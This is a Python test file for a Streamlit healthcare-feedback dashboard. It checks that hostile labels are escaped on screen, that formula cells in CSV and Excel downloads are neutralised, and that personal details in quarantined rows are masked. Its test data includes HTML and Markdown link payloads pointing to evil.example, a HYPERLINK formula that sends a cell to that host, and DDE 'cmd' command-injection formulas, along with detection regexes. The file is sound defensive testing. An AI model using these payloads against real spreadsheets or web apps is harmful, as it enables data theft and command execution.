"""Hostile labels and cells through every page and every download.

A source whose department, division, site, channel and complaint-subject names and comments are
Markdown, HTML and spreadsheet-formula payloads (and whose quarantined rows carry personal
details) is put through every page and tab with AppTest. Nothing from it may reach the screen as
a live link, image, HTML, directive or icon, no chart label may be HTML, every CSV a page offers
must open in a spreadsheet without a formula, and quarantined rows must not show personal
details. The escaping, neutralising and masking functions are also tested on their own.
"""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import urlencode

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from pages._shared import PRINT_FIT_JS  # the pages' one script: no data in it
from ptx.charts import plain
from ptx.demo import write_demo
from ptx.privacy import is_personal_column, mask_personal_text, mask_quarantined_rows, mask_reasons
from ptx.safety import FORMULA_STARTS, csv_bytes, escape_markdown, neutralise_cell
from tests.conftest import ROOT
from tests.downloads import download_table, record_downloads
from tests.test_browser import (  # noqa: F401 - the shared browser fixtures
    browser,
    page,
    settle,
    shot,
    streamlit_server,
)

TIMEOUT = 60
DASHBOARD = ROOT / "dashboard.py"

LINK = "[Click me](http://evil.example) ![t](http://evil.example/t.png)"
HTML = "<a href='http://evil.example'>x</a><img src=http://evil.example/i.png>"
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
EXTENSIONS = ":red[alarm] :material/warning: **bold** `code` $x^2$ :smile:"
AUTOLINKS = "www.evil.example mail@evil.example"
BLOCKS = "# Heading &lt;b&gt;"
PAYLOADS = (LINK, HTML, *FORMULAS, EXTENSIONS, AUTOLINKS, BLOCKS)
# A survey question whose id is HTML and Markdown: its measures are named after it.
QUESTION = "<a href='//evil.example'>nurses</a> ![i](//evil.example/i.png)"
PERSONAL = "Dr Smith rang 07700 900123, jane.doe@example.org, NHS 943 476 5919, DOB 01/02/1950"


def hostile_source(folder) -> None:
    """The demo as CSV files with every label and comment replaced by a payload, and a few rows
    that are quarantined with personal details in them."""
    write_demo(folder, rows=6_000, complaints=600, fmt="csv")
    departments = pd.read_csv(folder / "departments.csv", dtype=str, keep_default_na=False)
    departments["department_name"] = [
        f"{PAYLOADS[i % len(PAYLOADS)]} {i}" for i in range(len(departments))
    ]
    divisions = {
        d: f"{PAYLOADS[i]} division" for i, d in enumerate(departments["division"].unique())
    }
    sites = {s: f"{PAYLOADS[-i - 1]} site" for i, s in enumerate(departments["site"].unique())}
    departments["division"] = departments["division"].map(divisions)
    departments["site"] = departments["site"].map(sites)
    departments.to_csv(folder / "departments.csv", index=False)

    feedback = pd.read_csv(folder / "feedback.csv", dtype=str, keep_default_na=False)
    channels = {
        c: f"{PAYLOADS[i % len(PAYLOADS)]} channel"
        for i, c in enumerate(sorted(feedback["channel"].unique()))
    }
    feedback["channel"] = feedback["channel"].map(channels)
    feedback["comment"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(feedback))]
    feedback["age_band"] = feedback["age_band"].where(feedback.index % 7 != 0, "=1+1")
    broken = pd.DataFrame(
        [
            # an unknown department, named by a formula
            [
                "bad1",
                "2026-01-05",
                FORMULAS[0],
                "=1+1 card",
                "1",
                "fft5",
                PERSONAL,
                "35-54",
                "Female",
                "White",
            ],
            # an impossible date, and a comment full of personal details
            [
                "bad2",
                "2026-13-45",
                departments["department_id"][0],
                LINK,
                "1",
                "fft5",
                PERSONAL,
                "75+",
                "Male",
                "Asian",
            ],
            # a rating that is not a number
            [
                "bad3",
                "2026-01-05",
                departments["department_id"][1],
                HTML,
                "=1+1",
                "fft5",
                LINK,
                "18-34",
                "Female",
                "Black",
            ],
        ],
        columns=feedback.columns,
    )
    pd.concat([feedback, broken]).to_csv(folder / "feedback.csv", index=False)

    answers = pd.read_csv(folder / "feedback_answers.csv", dtype=str, keep_default_na=False)
    answers["question_id"] = answers["question_id"].replace("nurses_listened", QUESTION)
    answers.to_csv(folder / "feedback_answers.csv", index=False)

    complaints = pd.read_csv(folder / "complaints.csv", dtype=str, keep_default_na=False)
    subjects = {
        s: f"{PAYLOADS[i % len(PAYLOADS)]} subject"
        for i, s in enumerate(sorted(complaints["subject"].unique()))
    }
    complaints["subject"] = complaints["subject"].map(subjects)
    complaints.to_csv(folder / "complaints.csv", index=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile") / "csv"
    hostile_source(folder)
    return folder


# --- what counts as "interpreted" ---------------------------------------------------------------

# Constructs that Markdown (with GFM and Streamlit's extensions) would make live, written so
# that a backslash-escaped character never matches.
LIVE_MARKDOWN = {
    "link or image": re.compile(r"(?<!\\)\]\("),
    "html": re.compile(r"(?<!\\)<\s*/?\s*[A-Za-z!]"),
    # The browser links bare addresses even with escaped punctuation: only a word joiner
    # (U+2060) before the colon, the "www" dot or the "@" stops it (measured in Chromium).
    "autolink": re.compile(r"(?i)\b(?:https?|ftp|mailto)\\?:|\bwww\\?\.|[\w.+-]\\?@[\w-]+"),
    # The pages' own badges are directives (":blue-badge[...]"): only the data's are looked for.
    "directive, icon or emoji from the data": re.compile(
        r"(?<!\\):(?:red\[alarm|material/warning|smile(?<!\\):)"
    ),
    "entity": re.compile(r"(?<!\\)&(?:#\d+|#x[0-9a-fA-F]+|lt|gt|amp|quot|apos|nbsp);"),
    "emphasis from the data": re.compile(r"(?<!\\)\*\*bold(?<!\\)\*\*"),
    "code from the data": re.compile(r"(?<!\\)`code(?<!\\)`"),
    "maths from the data": re.compile(r"(?<!\\)\$x\^2"),
    "heading from the data": re.compile(r"(?m)^\s*#\s"),
}


def live_constructs(text: str) -> list[str]:
    return [name for name, pattern in LIVE_MARKDOWN.items() if pattern.search(text)]


def test_the_checker_sees_live_markdown_and_not_escaped_text():
    for payload in (LINK, HTML, EXTENSIONS, AUTOLINKS, BLOCKS, "&lt;b&gt;"):
        assert live_constructs(payload), payload
        assert not live_constructs(escape_markdown(payload)), escape_markdown(payload)


# Fields of an element's proto that are drawn as text the user reads; the options of a select
# box are drawn as plain text, so they are not checked for Markdown.
NOT_MARKDOWN = {
    "options",
    "default",
    "raw_value",
    "raw_values",
    "value",
    "values",
    "id",
    "form_id",
    "url",
    "icon",  # a button's or a badge's icon: the page's own (":material/warning:"), never data
}
SKIPPED_ELEMENTS = {"plotly_chart", "arrow_data_frame", "dataframe"}


def _strings(message, skip=NOT_MARKDOWN):
    for field, value in message.ListFields():
        if field.name in skip:
            continue
        repeated = not isinstance(value, (str, bytes)) and not hasattr(value, "ListFields")
        values = list(value) if repeated and hasattr(value, "__iter__") else [value]
        for item in values:
            if isinstance(item, str):
                yield field.name, item
            elif hasattr(item, "ListFields"):
                yield from _strings(item, skip)


def _nodes(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def shown_text(at: AppTest) -> list[tuple[str, str, str]]:
    """(element type, proto field, text) of every text an element of the run draws."""
    out = []
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        kind = getattr(node, "type", "")
        if proto is None or kind in SKIPPED_ELEMENTS or not hasattr(proto, "ListFields"):
            continue
        if kind == "html" and re.fullmatch(r"\s*<style>[^<]*</style>\s*", proto.body):
            continue  # a page's own style sheet, no data in it
        out += [(kind, field, text) for field, text in _strings(proto)]
    return out


def chart_strings(at: AppTest) -> list[str]:
    texts = []

    def walk(value):
        if isinstance(value, str):
            texts.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for chart in at.get("plotly_chart"):
        walk(json.loads(chart.proto.spec))
    return texts


# --- the downloads a run offers -----------------------------------------------------------------


@pytest.fixture
def app(monkeypatch, hostile):
    monkeypatch.setenv("PTX_SOURCE", str(hostile))
    content = record_downloads(monkeypatch)

    def run(page_file: str | None = None, **query_params) -> AppTest:
        at = AppTest.from_file(str(DASHBOARD), default_timeout=TIMEOUT)
        at.query_params.update(query_params)
        at.run()
        if page_file:
            at.switch_page(page_file).run()
        assert not at.exception, at.exception
        at.download_content = content  # what each download button gives on a click
        return at

    return run


def downloads(at: AppTest) -> dict[str, pd.DataFrame]:
    """Every table download (CSV and Excel) as a click gets it, read back as text cells."""
    found = {b.key: download_table(b, at.download_content) for b in at.get("download_button")}
    return {key: table for key, table in found.items() if table is not None}


def formula_cells(table: pd.DataFrame) -> list[str]:
    """Cells (and headings) of a downloaded table that a spreadsheet would read as a formula."""
    cells = [*map(str, table.columns), *(str(c) for row in table.to_numpy() for c in row)]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and neutralise_cell(c) != c]


OUR_TAGS = {"style", "div", "table", "caption", "thead", "tbody", "tr", "th", "td"}


def check_run(at: AppTest) -> tuple[int, int]:
    """Assert nothing from the data is live on screen, in a chart or in a download; return the
    number of texts and of downloads checked."""
    texts = shown_text(at)
    # The pages' own HTML (the print style sheet, the static copies of tables that only print
    # shows) is not Markdown: no tag in it may come from the data.
    html = [
        text for kind, _, text in texts if kind == "html" and text.strip() != PRINT_FIT_JS.strip()
    ]
    for text in html:
        assert set(re.findall(r"<\s*/?\s*([A-Za-z]+)", text)) <= OUR_TAGS, text[:500]
        assert "<div" not in text or text.startswith('<div class="ptx-print-only">'), text[:200]
    texts = [t for t in texts if t[0] != "html"]
    live = [(kind, field, text, live_constructs(text)) for kind, field, text in texts]
    assert not [x for x in live if x[3]], [x for x in live if x[3]]
    for text in chart_strings(at):
        for raw in ("<a href", "<img", "<A HREF", "<b>SMS"):
            assert raw not in text, text
    files = downloads(at)
    for label, data in files.items():
        assert not formula_cells(data), (label, formula_cells(data)[:5])
    return len(texts), len(files)


# A hostile department (with its site and division filled in) and a hostile channel.
def _chosen(hostile) -> dict[str, object]:
    departments = pd.read_csv(hostile / "departments.csv", dtype=str)
    channels = sorted(pd.read_csv(hostile / "feedback.csv", dtype=str)["channel"].dropna().unique())
    return {"dept": departments["department_name"][0], "channel": [channels[0]]}


VIEWS = [
    ("pages/overview.py", {}),
    ("pages/feedback.py", {}),
    ("pages/feedback.py", {"breakdown": "Age band"}),
    ("pages/feedback.py", {"breakdown": "Sex"}),
    ("pages/feedback.py", {"breakdown": "Ethnicity"}),
    ("pages/feedback.py", {"measure": f"Top box % · {QUESTION}", "period": "Week"}),
    ("pages/complaints.py", {}),
    ("pages/complaints.py", {"compare": "Subject"}),
    ("pages/complaints.py", {"section": "Trend"}),
    ("pages/complaints.py", {"section": "Backlog"}),
    ("pages/complaints.py", {"section": "Outcomes and subjects"}),
    ("pages/complaints.py", {"section": "Oldest open"}),
    ("pages/departments.py", {}),
    ("pages/departments.py", {"view": "Every measure at a glance"}),
    ("pages/data.py", {}),
]


@pytest.mark.parametrize("chosen", [False, True], ids=["whole organisation", "hostile filters"])
def test_hostile_labels_and_cells_are_never_interpreted(app, hostile, chosen):
    checked_texts = checked_files = 0
    extra = _chosen(hostile) if chosen else {}
    for page_file, params in VIEWS:
        at = app(page_file, **params, **extra)
        texts, files = check_run(at)
        checked_texts += texts
        checked_files += files
        if chosen and page_file != "pages/data.py":
            # The hostile choice is on screen, as text.
            shown = "\n".join(text for _, _, text in shown_text(at))
            assert escape_markdown(extra["dept"]) in shown or page_file.endswith(
                "departments.py"
            ), page_file
    assert checked_texts > 200 and checked_files >= 10


def test_hostile_payloads_reach_the_downloads_neutralised(app):
    at = app("pages/departments.py")
    tables = downloads(at)
    assert set(tables) == {"download_ranking", "excel_ranking"}  # the CSV and the Excel file
    for table in tables.values():
        names = set(table["Department"])
        assert f"'{FORMULAS[0]} 2" in names and f"'{FORMULAS[2]} 4" in names  # prefixed
        assert f"{LINK} 0" in names  # not a formula: as it is
        assert all(not n.startswith(("=", "+", "-", "@")) for n in names)


def test_the_data_page_masks_quarantined_rows(app):
    at = app("pages/data.py")
    frames = [d.value for d in at.dataframe]
    (rows,) = [f for f in frames if "data" in f.columns]
    assert len(rows) == 3
    shown = rows.to_csv()
    for detail in ("07700 900123", "jane.doe@example.org", "943 476 5919", "01/02/1950", "Smith"):
        assert detail not in shown
    for row in rows["data"]:
        values = json.loads(row)
        assert not {"age_band", "sex", "ethnicity"} & set(values)
        assert "comment" in values
    assert "Dr [name]" in shown and "[phone]" in shown
    quarantined = [t for key, t in downloads(at).items() if "quarantine" in key]
    assert len(quarantined) == 2  # CSV and Excel
    for quarantine in quarantined:
        exported = quarantine.to_csv()
        assert "07700 900123" not in exported and "jane.doe" not in exported
        assert not formula_cells(quarantine)


def test_a_ptx_error_quoting_a_value_is_shown_as_text(app, monkeypatch, tmp_path):
    missing = tmp_path / "[x](http://evil.example)"
    monkeypatch.setenv("PTX_SOURCE", str(missing))
    at = AppTest.from_file(str(DASHBOARD), default_timeout=TIMEOUT)
    at.run()
    assert not at.exception
    (error,) = at.error
    assert "does not exist" in error.value and not live_constructs(error.value)


# --- the functions on their own -----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Respiratory Ward",
        "Trauma & Orthopaedics",
        "Women's & Children's",
        "Complaints per 1,000 episodes",
        "FFT % positive",
        "p-chart with limits from each period's own denominator",
        "Riverside Hospital › Medicine › Respiratory Ward · FFT SMS",
    ],
)
def test_ordinary_text_is_left_as_it_is(text):
    assert escape_markdown(text) == text


def test_escaping_covers_each_construct():
    assert escape_markdown(LINK) == (
        "\\[Click me\\](http\u2060\\://evil.example) \\!\\[t\\](http\u2060\\://evil.example/t.png)"
    )
    assert escape_markdown("<b>x</b>") == r"\<b\>x\</b\>"
    joiner = "\u2060"  # the word joiner that stops the browser linking bare addresses
    assert escape_markdown(":red[x] :material/home: :smile:").replace(joiner, "") == (
        r"\:red\[x\] \:material/home\: \:smile\:"
    )
    assert escape_markdown("www.evil.example a@b.org") == (
        f"www{joiner}\\.evil.example a{joiner}\\@b.org"
    )
    assert escape_markdown("&lt;b&gt; & co") == r"\&lt;b\&gt; & co"
    assert escape_markdown("# a") == r"\# a" and escape_markdown("- a") == r"\- a"
    assert escape_markdown("1. a") == r"1\. a" and escape_markdown("> a") == r"\> a"
    assert escape_markdown("a\nb\r\n# c") == "a b # c"  # one line: no block can open
    assert escape_markdown(None) == "" and escape_markdown(3) == "3"


@pytest.mark.parametrize("payload", [*FORMULAS, "=1+1", "+1+1", "-1+1", "@A1", "\r=1", "＝1+1"])
def test_formula_cells_are_prefixed(payload):
    assert neutralise_cell(payload) == "'" + payload
    assert neutralise_cell(neutralise_cell(payload)) == "'" + payload  # once


@pytest.mark.parametrize("value", ["-12.5", "-1,234", "+5", "-3e-2", -12.5, -3, None, "", "a=b"])
def test_numbers_and_ordinary_text_are_not_prefixed(value):
    assert neutralise_cell(value) == value


def test_csv_bytes_neutralises_text_and_headings_but_keeps_numbers():
    frame = pd.DataFrame(
        {
            "=Department": ["=1+1", "Ward", "-1+2"],
            "Change": [-2.5, 1.0, None],
            "Low": ["-3.1", "", "-"],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode())))
    assert rows[0] == ["'=Department", "Change", "Low"]
    assert rows[1] == ["'=1+1", "-2.5", "-3.1"]
    assert rows[3] == ["'-1+2", "", "'-"]


def test_exported_result_tables_are_neutralised():
    from ptx.disclosure import Disclosure, Roles, as_table

    frame = pd.DataFrame({"department": ["=HYPERLINK(1)", "Ward"], "n": [20, -3]})
    shown = as_table(frame, Roles(counts=("n",)), Disclosure(), export=True)
    assert list(shown["department"]) == ["'=HYPERLINK(1)", "Ward"]
    on_screen = as_table(frame, Roles(counts=("n",)), Disclosure())
    assert list(on_screen["department"]) == ["=HYPERLINK(1)", "Ward"]  # the screen shows text


def test_chart_labels_are_plain_text():
    assert plain("<a href='http://evil.example'>x</a> & co") == (
        "&lt;a href='http://evil.example'&gt;x&lt;/a&gt; &amp; co"
    )


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("Email jane.doe@example.nhs.uk today", "Email [email] today"),
        ("call +44 20 7946 0018 or 07700 900123", "call [phone] or [phone]"),
        ("call (01632) 960 001", "call [phone]"),
        (
            "NHS no 943 476 5919 / 943-476-5919 / 9434765919",
            "NHS no [NHS number] / [NHS number] / [NHS number]",
        ),
        ("DOB: 01/02/1950", "DOB: [date of birth]"),
        ("date of birth 1 February 1950", "date of birth [date of birth]"),
        ("born on 1950-02-01 in Leeds", "born on [date of birth] in Leeds"),
        ("lives in LS1 4AP and sw1a 1aa", "lives in [postcode] and [postcode]"),
        ("Dr Patel and Mrs Jane Smith-Jones were kind", "Dr [name] and Mrs [name] were kind"),
        ("Mr. J. Smith", "Mr [name]"),
        # Kept: dates of a visit, times, ids, ordinary words
        ("seen on 2025-01-05 at 10:30, 1st floor", "seen on 2025-01-05 at 10:30, 1st floor"),
        (
            "received_date: '2025-13-45' is not a real date",
            "received_date: '2025-13-45' is not a real date",
        ),
        ("The doctors were kind", "The doctors were kind"),
    ],
)
def test_personal_text_is_masked(text, masked):
    assert mask_personal_text(text) == masked


def test_personal_columns_by_name():
    personal = [
        "age_band",
        "Age",
        "sex",
        "Gender",
        "ethnicity",
        "Ethnic group",
        "Post code",
        "postcode",
        "DOB",
        "Date of birth",
        "NHS number",
        "Patient name",
        "Surname",
        "email",
        "Phone",
    ]
    kept = [
        "department_name",
        "department_id",
        "comment",
        "received_date",
        "channel",
        "rating",
        "Why?",
        "subject",
        "site",
    ]
    assert all(is_personal_column(c) for c in personal), [
        c for c in personal if not is_personal_column(c)
    ]
    assert not any(is_personal_column(c) for c in kept), [c for c in kept if is_personal_column(c)]


def test_quarantined_rows_are_masked_unless_revealed():
    data = {
        "feedback_id": "b1",
        "comment": PERSONAL,
        "age_band": "75+",
        "Sex": "Male",
        "Date of birth": "01/02/1950",
    }
    rows = pd.DataFrame(
        {
            "table": ["feedback"],
            "row": ["3"],
            "reason": ["sex: 'Male' is not allowed"],
            "data": [json.dumps(data)],
        }
    )
    masked = mask_quarantined_rows(rows)
    shown = json.loads(masked["data"][0])
    assert set(shown) == {"feedback_id", "comment"}
    assert shown["comment"] == (
        "Dr [name] rang [phone], [email], NHS [NHS number], DOB [date of birth]"
    )
    assert masked["reason"][0] == "sex: [hidden] is not allowed"
    assert mask_quarantined_rows(rows, reveal=True) is rows
    reasons = pd.DataFrame(
        {
            "table": ["feedback", "feedback"],
            "reason": ["sex: is not allowed", "comment: is too long"],
            "rows": [1, 1],
            "example": ["Male", PERSONAL],
        }
    )
    shown = mask_reasons(reasons)
    assert list(shown["example"]) == ["[hidden]", mask_personal_text(PERSONAL)]


def test_a_question_named_in_html_is_plain_text_in_the_chart(app):
    at = app("pages/feedback.py", measure=f"Top box % · {QUESTION}")
    spec = json.loads(at.get("plotly_chart")[0].proto.spec)
    assert spec["layout"]["title"]["text"] == plain(f"Top box % · {QUESTION} by month")
    assert "&lt;a href=" in spec["layout"]["title"]["text"]


# --- what a real browser draws ------------------------------------------------------------------

LIVE_IN_BROWSER = r"""() => [
    ...[...document.querySelectorAll('[data-testid=stMain] a, [data-testid=stSidebar] a')]
        .map(a => a.getAttribute('href'))
        .filter(h => h && !h.startsWith(location.origin) && !h.startsWith('/'))
        .filter(h => /evil|mailto:|^https?:|^www/i.test(h) && !/streamlit\.io|ACCESS/i.test(h)),
    ...[...document.querySelectorAll('img[src*="evil"]')].map(i => i.src),
]"""


@pytest.fixture(scope="module")
def hostile_server(browser, hostile):  # noqa: F811 - the browser fixture
    with streamlit_server(hostile) as url:
        yield url


# Chosen by URL, so the department's name reaches the captions: the Markdown link, then the
# bare addresses ("www.evil.example mail@evil.example"), which the browser would link itself.
BROWSER_VIEWS = [
    (path, payload)
    for payload in (LINK, AUTOLINKS)
    for path in ("", "feedback", "complaints", "departments")
] + [("data", None)]


@pytest.mark.parametrize(("path", "payload"), BROWSER_VIEWS)
def test_a_browser_draws_no_link_or_image_from_the_data(
    hostile,
    hostile_server,
    page,  # noqa: F811 - the browser page fixture
    path,
    payload,
):
    """What Chromium draws: no link (even a bare address) and no image from a label."""
    query = ""
    if payload is not None:
        names = pd.read_csv(hostile / "departments.csv", dtype=str)["department_name"]
        query = "?" + urlencode({"dept": names[names.str.startswith(payload)].iloc[0]})
    page.goto(f"{hostile_server}/{path}{query}")
    settle(page)
    page.wait_for_timeout(1_000)
    if payload is not None:  # the name is on the page, as plain text
        assert payload in page.inner_text("[data-testid=stMain]").replace("\u2060", "")
    assert page.evaluate(LIVE_IN_BROWSER) == []
    shot(page, f"hostile-{path or 'overview'}-{PAYLOADS.index(payload) if payload else 0}")
